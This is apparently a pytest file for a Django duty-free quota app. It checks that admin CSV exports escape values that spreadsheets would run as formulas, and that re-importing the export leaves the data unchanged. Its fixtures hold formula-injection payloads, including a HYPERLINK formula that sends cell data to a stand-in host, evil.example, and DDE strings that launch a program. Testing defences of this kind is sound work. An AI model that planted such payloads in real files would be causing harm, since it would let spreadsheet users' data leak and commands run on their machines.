"""A policy's categories and immediate-pickup kinds as CSV, with text a spreadsheet would run
as a formula: the admin's exports quote it (dutyfree.csv) and its imports read the file back as
it was, so an export imported again changes nothing."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from quotas import services
from quotas.category_csv import COLUMNS as CATEGORY_COLUMNS
from quotas.kind_csv import COLUMNS as KIND_COLUMNS
from quotas.models import Policy

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?q="&A2,"点击")'
NOTE = "+cmd|' /C calc'!A0"
UNIT = "@SUM(1+1)"
NAME_EN = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def draft() -> Policy:
    shipped = Policy.objects.get(effective_from__year=2025, status="published")
    draft = services.policy_clone(policy=shipped)
    draft.categories.filter(code="cosmetics").update(name_zh=NAME, name_en=NAME_EN, note=NOTE)
    draft.immediate_kinds.filter(code="cosmetics").update(name_zh=NAME, unit_zh=UNIT, note=NOTE)
    return draft


@pytest.fixture
def web(client: Client) -> Client:
    client.force_login(get_user_model().objects.create_superuser("csv", "csv@example.org", None))
    return client


def rows_of(response: object) -> list[dict[str, str]]:
    text = response.content.decode()  # type: ignore[attr-defined]  # an HttpResponse
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("export", "import_", "related", "columns"),
    [
        ("quotas_policy_export", "quotas_policy_import", "categories", CATEGORY_COLUMNS),
        (
            "quotas_policy_kinds_export",
            "quotas_policy_kinds_import",
            "immediate_kinds",
            KIND_COLUMNS,
        ),
    ],
    ids=["categories", "kinds"],
)
def test_formulas_are_quoted_and_read_back(
    web: Client, draft: Policy, export: str, import_: str, related: str, columns: tuple[str, ...]
) -> None:
    before = list(getattr(draft, related).order_by("number").values(*columns))
    response = web.get(reverse(f"admin:{export}", args=[draft.pk]))
    assert response.status_code == 200
    (cosmetics,) = (row for row in rows_of(response) if row["code"] == "cosmetics")
    assert cosmetics["name_zh"] == "'" + NAME
    assert cosmetics["note"] == "'" + NOTE
    if related == "categories":
        assert cosmetics["name_en"] == "'" + NAME_EN
    else:
        assert cosmetics["unit_zh"] == "'" + UNIT
    upload = SimpleUploadedFile("back.csv", response.content, content_type="text/csv")
    assert (
        web.post(reverse(f"admin:{import_}", args=[draft.pk]), {"file": upload}).status_code == 302
    )
    assert list(getattr(draft, related).order_by("number").values(*columns)) == before
